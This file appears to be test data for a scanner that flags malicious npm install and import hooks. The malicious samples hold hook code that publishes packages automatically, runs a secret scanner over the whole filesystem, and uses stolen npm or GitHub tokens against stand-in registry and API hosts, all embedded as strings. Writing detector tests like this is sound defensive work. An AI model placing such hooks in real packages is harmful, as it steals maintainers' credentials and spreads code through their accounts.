import type { Samples } from '../contract.ts';
import { at, HOOK_LINE, hooked, imported, installed, quiet } from '../samples-kit.ts';

export const samples: Samples = {
  malicious: [
    {
      name: 'packages published by a hook',
      files: installed(
        `const { execSync } = require('child_process');\nfor (const dir of ['a', 'b']) execSync('npm publish --access public', { cwd: dir });\n`,
      ),
      expected: [at('publish', 'critical', 'setup.js', 2)],
    },
    {
      name: 'in the hook',
      files: hooked('npm version patch && npm publish'),
      expected: [at('publish', 'critical', 'package.json', HOOK_LINE)],
    },
    {
      name: 'at import, with arguments apart',
      files: imported(
        `const cp = require('child_process');\ncp.spawnSync('npm', ['publish', '--access', 'public']);\n`,
      ),
      expected: [at('publish', 'high', 'index.js', 2)],
    },
    {
      name: 'a scanner for secrets',
      files: installed(
        `const cp = require('child_process');\ncp.execFileSync('./trufflehog', ['filesystem', '/', '--json']);\n`,
      ),
      expected: [at('secret-scanner', 'critical', 'setup.js', 2)],
    },
    {
      name: 'the account behind a token',
      files: installed(
        `const token = /_authToken=(\\S+)/.exec(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'))[1];\nfetch('https://registry.weir.test/-/whoami', { headers: { authorization: 'Bearer ' + token } });\n`,
      ),
      expected: [at('account', 'high', 'setup.js', 2)],
    },
    {
      name: "a repository in the victim's name",
      files: installed(
        `const headers = { authorization: 'token ' + process.env.GITHUB_TOKEN };\nfetch('https://api.weir.test/user/repos', { method: 'POST', headers, body: '{"name":"x"}' });\n`,
      ),
      expected: [at('account', 'high', 'setup.js', 2)],
    },
  ],
  benign: [
    quiet(
      'a release tool',
      imported(
        `const { execSync } = require('child_process');\nexports.release = () => execSync('npm publish');\n`,
      ),
    ),
    quiet('a release script that install never runs', {
      ...imported('module.exports = 1;\n'),
      'package.json': JSON.stringify(
        { name: 'sample', version: '1.0.0', scripts: { release: 'npm publish' } },
        null,
        2,
      ),
    }),
    quiet(
      'a client of the registry',
      imported(
        `exports.whoami = (token) => fetch('https://registry.weir.test/-/whoami', { headers: { authorization: 'Bearer ' + (token || process.env.NPM_TOKEN) } });\n`,
      ),
    ),
  ],
};
